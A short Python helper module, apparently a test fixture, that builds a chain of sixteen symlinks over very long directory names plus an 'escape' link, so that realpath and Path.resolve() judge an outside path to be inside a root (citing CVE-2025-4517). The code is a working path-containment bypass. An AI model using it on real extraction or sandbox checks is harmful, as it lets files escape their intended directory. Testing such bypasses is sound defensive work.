"""The chain of links that makes `realpath` and `Path.resolve()` say "inside" of a file outside.

Sixteen links with short names stand for folders with very long ones; resolved by text the path
grows over the limit of the system, so that library code gives up and keeps the rest as it is.
Source: specification 17, CVE-2025-4517.
"""

from __future__ import annotations

import string
from pathlib import Path

__all__ = ["make_long_chain"]

LONG = "d" * 247
BACK = "l" * 254


def make_long_chain(root: Path, outside: str) -> str:
    """Build the chain in a root; the name of the link that leaves, to `outside` beside the root."""
    below = ""
    for letter in string.ascii_lowercase[:16]:
        (root / below / LONG).mkdir()
        (root / below / letter).symlink_to(LONG)
        below += f"{letter}/"
    (root / below / BACK).symlink_to("../" * 16)
    (root / "escape").symlink_to(f"{below}{BACK}/../{outside}")
    return "escape"
